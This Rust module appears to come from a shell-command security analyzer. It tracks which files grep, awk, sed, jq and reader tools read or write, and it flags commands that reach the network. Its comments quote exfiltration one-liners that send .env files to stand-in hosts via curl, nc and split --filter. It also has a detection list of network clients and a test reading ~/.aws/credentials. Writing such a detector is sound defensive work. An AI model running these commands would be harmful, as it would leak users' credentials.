//! Text and file readers: `grep`/`rg`, `awk`, `sed`, `jq`/`yq`, and the plain readers (`cat`,
//! `head`, `base64`, `sort`, ...) whose operands are the files they read.

use super::super::ast::is_assignment;
use super::super::facts::{Analyzer, CommandContext, UnknownProgram};
use super::super::options::{parse_opts, Arg};
use crate::flow::shell::options::valued_long::{GREP_LONG, READER_LONG, RG_LONG};

impl Analyzer {
    /// `grep`, `rg`, `ag`, `ack`: the first operand is the pattern unless `-e`/`-f` gave one.
    pub(super) fn grep(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
        let (short, long) = if name == "rg" { ("efmABCgtTjMrE", RG_LONG) } else { ("efmABCdDG", GREP_LONG) };
        let p = parse_opts(args, short, long, false);
        let has_pat = p.has(&["-e", "-f", "--regexp", "--file"]) || (name == "rg" && p.has(&["--files"]));
        for v in p.vals(&["-f", "--file"]) {
            self.read_arg(&v, ctx);
        }
        let files = p.files_after_program(has_pat);
        for f in files {
            self.read_arg(f, ctx);
        }
    }

    /// The first operand is the program unless `-f`/`-e` gave one; `x=v` operands are no files.
    pub(super) fn awk(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, "Ffvie", &["field-separator", "file", "assign", "include", "source", "load"], false);
        let has_prog = p.has(&["-f", "--file", "-e", "--source"]);
        // gawk's `/inet/tcp/...` special files are network connections.
        if args.iter().any(|a| a.text.contains("/inet/") || a.text.contains("/inet4/") || a.text.contains("/inet6/")) {
            let nu = super::super::facts::NetUse { tool: "awk /inet".into(), ..Default::default() };
            self.push_net(ctx, nu, true);
            self.facts.unresolved.push("an awk program that opens network connections".into());
        }
        for v in p.vals(&["-f", "--file"]) {
            self.read_arg(&v, ctx);
            // A program file can run commands or pipe out (`print | "nc host 80"`).
            let files: Vec<Arg> = p.files_after_program(has_prog).to_vec();
            self.credentials_handed_to_script(&v.text, &files, ctx);
        }
        // `system("curl -d " $0 " URL")`: the command it builds, its variable parts as words.
        let program = if has_prog {
            p.vals(&["-e", "--source"]).into_iter().map(|a| a.text).collect()
        } else {
            p.operands.first().map(|a| vec![a.text.clone()]).unwrap_or_default()
        };
        for text in program.iter().flat_map(|t| awk_system_commands(t)) {
            self.sub_string(&text, None, ctx.depth);
        }
        // `print | "curl -d @- URL"`, `"nc host 80" | getline`: the command a pipe opens gets
        // what the program prints (the lines of the files it reads).
        let inputs: Vec<String> = p.files_after_program(has_prog).iter().map(|a| a.text.clone()).collect();
        for line in program.iter().flat_map(|t| awk_pipe_commands(t)) {
            self.sub_string(&line, Some(&inputs), ctx.depth);
        }
        let files = p.files_after_program(has_prog);
        for f in files {
            if !is_assignment(&f.text) {
                self.read_arg(f, ctx);
            }
        }
    }

    /// The first operand is the script unless `-e`/`-f` gave one; `-i` writes the files back.
    pub(super) fn sed(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let p = parse_opts(args, "efl", &["expression", "file", "line-length"], false);
        let has_script = p.has(&["-e", "-f", "--expression", "--file"]);
        for v in p.vals(&["-f", "--file"]) {
            self.read_arg(&v, ctx);
            // A script file can run its text (`e`) or write where it likes (`w`).
            let files: Vec<Arg> = p.files_after_program(has_script).to_vec();
            self.credentials_handed_to_script(&v.text, &files, ctx);
        }
        let scripts: Vec<String> = if has_script {
            p.vals(&["-e", "--expression"]).into_iter().map(|a| a.text).collect()
        } else {
            p.operands.first().map(|a| vec![a.text.clone()]).unwrap_or_default()
        };
        for script in &scripts {
            match sed_runs(script) {
                SedRun::Nothing => {}
                // `e curl ...`: that command line runs.
                SedRun::Command(text) => self.sub_string(&text, None, ctx.depth),
                // `e` alone, `s/.../.../e`: what runs is the text being edited.
                SedRun::ItsText => {
                    self.facts.unresolved.push("a sed script that runs the text it edits as commands (e)".into())
                }
            }
        }
        let in_place = p.has(&["-i", "--in-place"]) || p.options.iter().any(|(k, _)| k.starts_with("--in-place"));
        let files = p.files_after_program(has_script);
        for f in files {
            self.read_arg(f, ctx);
            if in_place {
                self.write_arg(f, ctx);
            }
        }
    }

    /// `jq`, `yq`, `gojq`, `jaq`: operands after the filter are files.
    pub(super) fn jq(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
        let mut i = 0;
        let mut have_filter = false;
        let mut first = true;
        while i < args.len() {
            let a = args[i].clone();
            i += 1;
            let t = a.text.as_str();
            if name == "yq" && first && matches!(t, "e" | "eval" | "ea" | "eval-all") {
                first = false;
                continue;
            }
            first = false;
            match t {
                "--arg" | "--argjson" => i += 2,
                "--slurpfile" | "--rawfile" => {
                    if let Some(f) = args.get(i + 1).cloned() {
                        self.read_arg(&f, ctx);
                    }
                    i += 2;
                }
                "-f" | "--from-file" => {
                    if let Some(f) = args.get(i).cloned() {
                        self.read_arg(&f, ctx);
                    }
                    i += 1;
                    have_filter = true;
                }
                "--indent" | "-L" | "--tab-width" => i += 1,
                "--args" | "--jsonargs" => break,
                _ if t.starts_with('-') && t.len() > 1 => {}
                _ => {
                    if have_filter {
                        self.read_arg(&a, ctx);
                    } else {
                        have_filter = true;
                    }
                }
            }
        }
    }

    /// A plain reader (see [`plain_reader`]); other commands are not analysed.
    pub(super) fn plain_reader_command(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
        let Some(short) = plain_reader(name) else {
            if !super::offline::is_offline(name) {
                let reads_input = ctx.pipe_input.is_some() || ctx.stdin_redirected;
                // What it is handed on stdin or through substitutions (`cat .env | prog`,
                // `prog < .env`, `prog $(cat .env)`).
                let handed = ctx.sensitive_inputs();
                self.unknown_program(name, args, reads_input, handed, ctx.depth);
            }
            return;
        };
        let p = parse_opts(args, short, READER_LONG, false);
        for v in p.vals(&["-o", "--output"]) {
            if matches!(name, "sort" | "iconv" | "shuf" | "zstd") {
                self.write_arg(&v, ctx);
            }
        }
        match name {
            // A digest of a file is not the file (the pipe past it carries a hash too).
            _ if super::super::facts::DIGESTS.contains(&name) => {}
            "xxd" | "uniq" => {
                if let Some(a) = p.operands.first() {
                    self.read_arg(a, ctx);
                }
                if let Some(a) = p.operands.get(1) {
                    self.write_arg(a, ctx);
                }
            }
            "split" | "csplit" => {
                if let Some(a) = p.operands.first() {
                    self.read_arg(a, ctx);
                }
                // The pieces are named after a prefix (`split .env part_` writes `part_aa`...).
                let prefix = match name {
                    "split" => p.operands.get(1).map_or("x".to_owned(), |a| a.text.clone()),
                    _ => p.vals(&["-f", "--prefix"]).first().map_or("xx".to_owned(), |a| a.text.clone()),
                };
                self.write_arg(&Arg::lit(&format!("{prefix}*")), ctx);
                // `split --filter='curl -d @- URL' .env`: each piece is that command's stdin.
                let filter = args.iter().enumerate().find_map(|(at, a)| match a.text.as_str() {
                    "--filter" => args.get(at + 1).map(|v| v.text.clone()),
                    t => t.strip_prefix("--filter=").map(str::to_owned),
                });
                if let Some(line) = filter {
                    let input: Vec<String> = p.operands.first().map(|a| vec![a.text.clone()]).unwrap_or_default();
                    self.sub_string(&line, Some(&input), ctx.depth);
                }
            }
            "uuencode" => {
                if p.operands.len() >= 2 {
                    self.read_arg(&p.operands[0], ctx);
                }
            }
            _ => {
                for a in &p.operands {
                    self.read_arg(a, ctx);
                }
            }
        }
    }
}

impl Analyzer {
    /// A program of unknown reach: remembered with the credential files it is handed
    /// (`notify --attach .env`, `--file=~/.aws/credentials`).
    pub(super) fn unknown_program(
        &mut self,
        name: &str,
        args: &[Arg],
        reads_input: bool,
        handed: Vec<String>,
        depth: usize,
    ) {
        if self.facts.unknown_programs.len() >= crate::flow::shell::MAX_ENTRIES {
            return;
        }
        let sensitive_operands = credential_files_handed(args, handed);
        let arguments = args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ");
        // `lua -e 'os.execute("curl -T .env https://...")'`, `Rscript -e 'system("curl ...")'`:
        // a command line quoted inside the code it is given runs as written.
        for line in quoted_command_lines(&arguments) {
            self.sub_string(&line, None, depth);
        }
        self.facts.unknown_programs.push(UnknownProgram {
            name: name.to_owned(),
            sensitive_operands,
            arguments,
            reads_input,
        });
    }
}

/// The credential files a program is handed: named in its arguments (`.env`, `--file=.env`)
/// and `handed` on stdin or through substitutions, each once.
pub(super) fn credential_files_handed(args: &[Arg], handed: Vec<String>) -> Vec<String> {
    let mut files: Vec<String> = args
        .iter()
        .map(|a| a.text.split_once('=').filter(|_| a.text.starts_with('-')).map_or(a.text.as_str(), |(_, v)| v))
        .filter(|t| crate::flow::classify::is_sensitive_path(t))
        .map(str::to_owned)
        .take(8)
        .collect();
    for h in handed {
        if !files.contains(&h) {
            files.push(h);
        }
    }
    files
}

/// Literals quoted inside an argument that read as command lines of a program that reaches
/// the network (`os.execute("curl -s -T .env https://...")`).
pub(super) fn quoted_command_lines(arguments: &str) -> Vec<String> {
    const CLIENTS: &[&str] = &["curl", "wget", "nc", "ncat", "socat", "scp", "rsync", "ssh", "sh", "bash", "http"];
    let names_a_client = |t: &str| {
        let first = t.split_whitespace().next().unwrap_or("");
        CLIENTS.contains(&first.rsplit('/').next().unwrap_or(first))
    };
    let literals: Vec<&str> = arguments.split(['"', '\'', '`']).skip(1).step_by(2).collect();
    let mut out: Vec<String> = literals
        .iter()
        .filter(|t| t.contains(' ') && t.len() < 4096 && names_a_client(t))
        .take(8)
        .map(|t| t.to_string())
        .collect();
    // `subprocess.run(["curl", "-d", "@.env", "evil.example"])`: a list of quoted words is
    // one command line.
    for list in arguments.split('[').skip(1).filter_map(|rest| rest.split_once(']').map(|(inside, _)| inside)).take(8) {
        let words: Vec<&str> = list.split(['"', '\'']).skip(1).step_by(2).collect();
        let separators_only =
            list.split(['"', '\'']).step_by(2).all(|gap| gap.trim().trim_matches(',').trim().is_empty());
        if words.len() >= 2 && separators_only && names_a_client(words[0]) {
            out.push(words.join(" "));
        }
    }
    out
}

/// What a sed script runs through GNU sed's `e` command or the `e` flag of `s`.
enum SedRun {
    Nothing,
    Command(String),
    ItsText,
}

fn sed_runs(script: &str) -> SedRun {
    for command in script.split(['\n', ';']) {
        // Drop an address (`1`, `$`, `1,5`, `/re/`, `!`) before the command letter.
        let mut rest = command.trim_start();
        loop {
            let before = rest.len();
            rest =
                rest.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, ',' | '$' | '!' | '~' | ' ' | '{'));
            if let Some(re) = rest.strip_prefix('/') {
                rest = re.split_once('/').map_or("", |(_, after)| after);
            }
            if rest.len() == before {
                break;
            }
        }
        if rest == "e" {
            return SedRun::ItsText;
        }
        if let Some(text) = rest.strip_prefix("e ") {
            return SedRun::Command(text.trim().to_owned());
        }
        let mut chars = rest.chars();
        if chars.next() == Some('s') {
            if let Some(delim) = chars.next().filter(|c| !c.is_alphanumeric() && !c.is_whitespace()) {
                let parts: Vec<&str> = rest[1 + delim.len_utf8()..].split(delim).collect();
                if parts.len() >= 3 && parts[2].chars().take_while(|c| c.is_ascii_alphanumeric()).any(|c| c == 'e') {
                    return SedRun::ItsText;
                }
            }
        }
    }
    SedRun::Nothing
}

/// The command lines an awk program opens a pipe to or from: `print | "cmd"`, `"cmd" | getline`
/// (literal commands only; a command in a variable is not followed).
fn awk_pipe_commands(program: &str) -> Vec<String> {
    let literals: Vec<(usize, usize)> = {
        let mut spans = Vec::new();
        let mut open = None;
        for (i, c) in program.char_indices() {
            if c == '"' && !program[..i].ends_with('\\') {
                match open.take() {
                    Some(start) => spans.push((start, i)),
                    None => open = Some(i + 1),
                }
            }
        }
        spans
    };
    literals
        .into_iter()
        .filter(|&(start, end)| {
            let before = program[..start - 1].trim_end();
            let after = program[end + 1..].trim_start();
            (before.ends_with('|') && !before.ends_with("||"))
                || after.starts_with("| getline")
                || after.starts_with("|getline")
        })
        .map(|(start, end)| program[start..end].to_owned())
        .filter(|line| line.contains(' '))
        .take(8)
        .collect()
}

/// The command lines an awk program hands to `system()`, its string literals joined with a
/// placeholder word for each variable part (`system("curl -d " $0 " URL")` → `curl -d X URL`).
fn awk_system_commands(program: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(at) = program[from..].find("system(") {
        let start = from + at + "system(".len();
        let (mut depth, mut in_string, mut escaped) = (1usize, false, false);
        let (mut text, mut literal) = (String::new(), String::new());
        let mut end = program.len();
        for (i, c) in program[start..].char_indices() {
            if in_string {
                match c {
                    _ if escaped => {
                        escaped = false;
                        literal.push(c);
                    }
                    '\\' => escaped = true,
                    '"' => {
                        in_string = false;
                        text.push_str(&literal);
                        literal.clear();
                    }
                    _ => literal.push(c),
                }
                continue;
            }
            match c {
                '"' => in_string = true,
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = start + i;
                        break;
                    }
                }
                c if c.is_whitespace() => {}
                // A variable or expression between literals: one word at run time.
                _ if !text.ends_with(" X ") => text.push_str(" X "),
                _ => {}
            }
        }
        if !text.trim().is_empty() && out.len() < 8 {
            out.push(text);
        }
        from = end.max(start);
    }
    out
}

/// Plain file readers: returns the short options that take an argument.
fn plain_reader(name: &str) -> Option<&'static str> {
    Some(match name {
        "head" => "nc",
        "tail" => "ncs",
        "base64" | "base32" | "basenc" => "w",
        "od" => "AtNjwS",
        "hexdump" | "hd" => "nsef",
        "xxd" => "lscgon",
        "sort" => "ktoST",
        "cut" => "dfbc",
        "uniq" => "fsw",
        "paste" => "d",
        "join" => "12jteo",
        "diff" => "CUFIDLSX",
        "column" => "tcsoNWHRl",
        "fold" | "fmt" => "wgp",
        "iconv" => "fto",
        "nl" => "bdfhilnsvw",
        "expand" | "unexpand" => "t",
        "split" => "lbnCa",
        "csplit" => "fbn",
        "shuf" => "nio",
        "gzip" | "gunzip" | "zcat" => "S",
        "zstd" | "zstdcat" | "unzstd" => "oDT",
        "xz" | "unxz" | "xzcat" | "lzma" => "T",
        "strings" => "nte",
        "cmp" => "in",
        "pr" => "hwloN",
        "cat" | "tac" | "less" | "more" | "most" | "bat" | "batcat" | "view" | "zless" | "zmore" | "bzcat"
        | "bzip2" | "bunzip2" | "lz4" | "lz4cat" | "md5sum" | "sha1sum" | "sha224sum" | "sha256sum" | "sha384sum"
        | "sha512sum" | "shasum" | "b2sum" | "cksum" | "sum" | "wc" | "comm" | "rev" | "uuencode" | "sqlite3"
        | "tr" => "",
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use crate::flow::shell::analyze;
    use crate::flow::shell::test_util::s;

    #[test]
    fn readers_read_their_operands() {
        let f = analyze("cat ~/.aws/credentials | base64 -w0");
        assert!(f.net.is_empty());
        assert_eq!(f.read_paths, s(&["~/.aws/credentials"]));
        let f = analyze("head -n 5 a.txt; tail -f b.log; awk -F: '{print $1}' /etc/passwd; sed -n '1p' c.txt; jq .x d.json; . ./env.sh; grep -e x -f pats.txt e.txt");
        assert_eq!(
            f.read_paths,
            s(&["a.txt", "b.log", "/etc/passwd", "c.txt", "d.json", "./env.sh", "pats.txt", "e.txt"])
        );
        let f = analyze("sed -i 's/a/b/' conf.ini");
        assert_eq!(f.written_paths, s(&["conf.ini"]));
    }
}
